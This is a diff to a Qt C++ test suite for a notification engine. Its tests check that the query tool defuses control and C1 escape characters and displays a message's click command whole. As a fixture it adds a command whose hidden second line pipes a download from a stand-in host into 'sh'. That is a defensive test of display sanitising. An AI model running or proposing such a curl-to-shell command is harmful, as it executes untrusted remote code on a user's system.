@@ -392,13 +392,15 @@ void TestEngine::wholeCycleThroughTheBus()
 }
 
 // The query program reads what a real cycle and a closing left: a read message, events of the
-// three kinds, one with a failed upload, and a title full of control characters.
+// three kinds, one with a failed upload, a title full of control characters and a long command
+// that hides a second line.
 void TestEngine::queryProgramShowsWhatTheCycleWrote()
 {
-    const QString title = "tab\there\x1b[31m" + QString(200, u'x');
+    const QString title = "tab\there\x1b[31m\u009b" + QString(200, u'x');
     QJsonObject expired = message(3, 9, QString(), QString(), now() - 10, now() - 300);
     expired.insert("title", title);
-    serve({pageBody({message(1, 9, QString(), QString(), now() + 86400), expired})});
+    const QString command = "echo a\ncurl https://x.test/" + QString(90, u'y') + " | sh";
+    serve({pageBody({message(1, 1, command, QString(), now() + 86400), expired})});
     serveReports(HttpResponse::json(R"({"status":500,"desc":"later"})"));
     events()->insertMsgEventInfoRecord(MsgEventInfo(9, 5, 3));
     const int refused = events()->selectMsgEventInfoRecords().firstKey();
@@ -409,6 +411,8 @@ void TestEngine::queryProgramShowsWhatTheCycleWrote()
 
     testing::QueryRun run = testing::runQuery({"--json"});
     QCOMPARE(run.exitCode, 0);
+    // A terminal acts on C1 controls as on escapes.
+    QVERIFY(!run.out.contains("\xc2\x9b") && run.out.contains("\\u009b"));
     const QJsonObject document = QJsonDocument::fromJson(run.out).object();
     // The listing itself is the demo's to read; here, what only a cycle and a closing leave.
     QCOMPARE(document["messages"][1]["read"].toBool(), true);
@@ -424,11 +428,15 @@ void TestEngine::queryProgramShowsWhatTheCycleWrote()
     // The readable form: 80 columns, the store's control characters defused.
     run = testing::runQuery({"--list"});
     const QStringList lines = QString::fromUtf8(run.out).split(u'\n', Qt::SkipEmptyParts);
-    QCOMPARE(lines.size(), 2 + 2 * 2);
+    QCOMPARE(lines.size(), 2 + 2 * 2 + 2);
     for (const QString& line : lines) {
         QVERIFY2(line.size() <= 80 && !line.contains(u'\t') && !line.contains(u'\x1b'),
                  qPrintable(line));
     }
+    // What a click runs, whole and as a shell reads it.
+    QCOMPARE(lines.at(5).trimmed() + lines.at(6).trimmed() + lines.at(7).trimmed(),
+             "on click: /bin/bash -c $'echo a\\ncurl https://x.test/" + QString(90, u'y') +
+                 " | sh'");
 }
 
 // Switched off, a call does nothing at all; switched on, the next cycle goes on where it stopped.
@@ -446,6 +454,8 @@ void TestEngine::switchedOff()
              QDBusMessage::ReplyMessage);
     const testing::QueryRun report = testing::runQuery({"--status"});
     QVERIFY(report.out.contains("off: QueryNotifications calls do nothing"));
+    const testing::QueryRun waiting = testing::runQuery({"--wait", "--timeout", "20"});
+    QVERIFY2(waiting.exitCode == 1 && waiting.err.contains("switched off"), waiting.err.data());
     QCOMPARE(m_server->requestCount(), 0);
     QCOMPARE(m_notifications->callCount(), 0);
     QCOMPARE(m_spy->changes().size(), signalsBefore);
